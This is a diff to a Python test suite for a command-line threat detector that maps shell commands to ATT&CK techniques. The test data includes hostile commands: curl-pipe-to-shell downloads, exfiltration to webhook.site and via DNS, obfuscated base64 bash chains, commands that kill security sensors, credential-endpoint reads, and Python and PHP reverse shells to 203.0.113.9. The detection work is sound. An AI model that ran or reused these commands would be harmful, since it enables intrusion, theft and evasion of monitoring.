@@ -274,7 +274,8 @@ def test_what_probes_and_entrypoints_are_told_is_not_known_bad(words: str) -> No
 def test_hostile_words_cost_no_time() -> None:
     pieces = (  # noqa: SIM905 — texts
         "mkfifo|sh|nc ;sh -;grep -;ls -;find / -;curl -F a;nc -;exec(;/dev/tcp/;kill -;rm ;> a.p;>a;truncate /var/;caption:@/;"
-        "file:///;alias.;-c set ;from program;cp /a/;tee a.p;curl -o;system ('; :! ;touch -;/tmp/.;script -;yes "
+        "file:///;alias.;-c set ;from program;cp /a/;tee a.p;curl -o;system ('; :! ;touch -;/tmp/.;script -;yes ;"
+        "$(;`;-exec ;timeout ;sudo -u ;eval $(;|sh ;/;rm -r ;sed -i ;ip a ;select ;\\x41;).a.;{echo,;/a?;kill falco"
     ).split(";")
     for piece in pieces:
         exec_of("/usr/bin/dash", "sh", "-c", piece * (8192 // len(piece)))  # the suite's limit for a test is the assertion
@@ -364,6 +365,44 @@ def test_what_no_probe_needs_is_told_in_first_minutes(cluster: Cluster) -> None:
         ("ls /var/lib/kubelet/pods", "T1497.001"),
         ("python3 -c 'import base64; exec(base64.b64decode(\"eA==\"))'", "T1027"),
         ("python3 -m http.server 8000", "T1048.003"),
+        ("curl -s x | sh >/dev/null 2>&1", "T1059.004"),
+        ("wget -qO- x | busybox sh", "T1059.004"),
+        ('eval "$(curl -s x)"', "T1059.004"),
+        ("bash <(curl -s x)", "T1059.004"),
+        ("bash <<< id", "T1059.004"),
+        ("mkdir /tmp/.x", "T1564.001"),
+        ("mkdir /dev/shm/...", "T1564.001"),
+        ("/bin/bash -p", "T1548.001"),
+        ("{echo,aWQ=}|{base64,-d}|{bash,-i}", "T1027"),
+        ("cat${IFS}/srv/x", "T1027"),
+        ("/???/c?t /srv/x", "T1027"),
+        ("printf '\\x7fELF' > /srv/x", "T1027"),
+        ("sh /tmp/a.sh", "T1059"),
+        ("java -jar /tmp/a.jar", "T1059"),
+        ("nohup /tmp/a &", "T1036.005"),
+        ("vim -c ':!/bin/sh'", "T1059.004"),
+        ("pkill -9 falcon-sensor", "T1562.001"),
+        ("nslookup $(id -un).x.example", "T1048"),
+        ("curl -d @- https://webhook.site/1", "T1048"),
+        ("dmesg -C", "T1070.002"),
+        ("for i in 1 2; do ping -c 1 10.0.0.$i; done", "T1018"),
+        ("ip link set eth0 promisc on", "T1562.004"),
+        ("rm /usr/bin/ps", "T1070.004"),
+        ("chmod 666 /etc/passwd", "T1098"),
+        ("sed -i s/no/yes/ /etc/ssh/sshd_config", "T1098"),
+        ("sed -i '$ a #x' /etc/rsyslog.conf", "T1562.006"),
+        ("mkdir /bin/x", "T1036.003"),
+        ("while true; do :; done", "T1499"),
+        ("psql -c 'select name, password from users'", "T1555"),
+        ("pkill xmrig", "T1496.001"),
+        ("echo x >> ~/.profile", "T1546.004"),
+        ("dd if=/dev/sda1 of=/srv/x", "T1611"),
+        ("curl http://169.254.170.2/v2/credentials", "T1552.005"),
+        ("curl -k https://10.0.0.1:10250/pods", "T1613"),
+        ("python3 -c 'import os; os.system(\"id\")'", "T1059"),
+        ("php -r 'shell_exec(\"id\");'", "T1059"),
+        ("su - root -c id", "T1548.003"),
+        ("sudo id", "T1548.003"),
     ],
 )
 def test_words_say_what_they_are_about(words: str, technique: str) -> None:
@@ -383,6 +422,56 @@ def test_a_script_that_waits_for_a_service_looks_for_nobody(words: str, level: L
 def test_a_person_who_resolves_names_looks_around() -> None:
     said = exec_of("/usr/bin/getent", "getent", "hosts", "db.shop", parent="", injected=True)
     assert (said.techniques, said.inspection) == (("T1018",), True)
+
+
+@pytest.mark.parametrize(
+    ("words", "technique"),
+    [
+        ("ls /tmp/.X11-unix", "T1564.001"),
+        ("ls /tmp/.cache", "T1564.001"),
+        (". /etc/profile && exec server", "T1546.004"),
+        ("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 exec server", "T1574.006"),
+        ("echo > /dev/tcp/localhost/8080", "T1059.004"),
+        ("python3 -c 'import socket; socket.create_connection((\"localhost\", 80))'", "T1059"),
+        ("etcdctl --endpoints https://127.0.0.1:2379 endpoint health", "T1613"),
+        ("su postgres -s /bin/bash -c psql", "T1548.003"),
+        ("runuser -u app server", "T1548.003"),
+        ("sudo -u app server", "T1548.003"),
+        ("pkill -USR1 -x nginx", "T1489"),
+        ("cat /srv/2.10.4.1/VERSION", "T1105"),
+        ("ssh -p 22 host", "T1548.001"),
+    ],
+)
+def test_what_services_are_told_is_not_taken_for_more(words: str, technique: str) -> None:
+    assert technique not in exec_of("/usr/bin/dash", "sh", "-c", words, parent="/usr/bin/bash").techniques
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        'python3 -c \'import socket,subprocess; s=socket.socket(); s.connect(("203.0.113.9",80)); subprocess.call(["sh"])\'',
+        'php -r \'$s=fsockopen("203.0.113.9",80); proc_open("sh", [], $p);\'',
+        "server --algo rx/0 -o pool",
+    ],
+)
+def test_code_that_gives_a_shell_away_is_known_bad(words: str) -> None:
+    assert exec_of("/usr/bin/dash", "sh", "-c", words).level is Level.KNOWN_BAD
+
+
+@pytest.mark.parametrize(
+    "words", ["stat -c %a /etc/shadow", "ls -la /root/.ssh", "grep 203.0.113.9 access.log", "ping 203.0.113.9"]
+)
+def test_a_person_who_lists_or_searches_only_looks(words: str) -> None:
+    name = f"/usr/bin/{words.split(maxsplit=1)[0]}"
+    assert exec_of("/usr/bin/dash", "sh", "-c", words, parent="", injected=True).inspection
+    assert exec_of(name, *words.split(), parent="", injected=True).inspection
+
+
+@pytest.mark.parametrize("words", ["curl 203.0.113.9", "server --peer 203.0.113.9", "cat /etc/shadow"])
+def test_a_person_who_does_more_than_that_does_not_only_look(words: str) -> None:
+    said = exec_of("/usr/bin/dash", "sh", "-c", words, parent="", injected=True)
+    assert said.level >= Level.SUSPICIOUS
+    assert not said.inspection
 
 
 @pytest.mark.parametrize("words", ["kill -HUP 1", "kill -s USR1 $(cat /run/x.pid)", "openssl dgst -sha256 /srv/x;kill -USR2 7"])
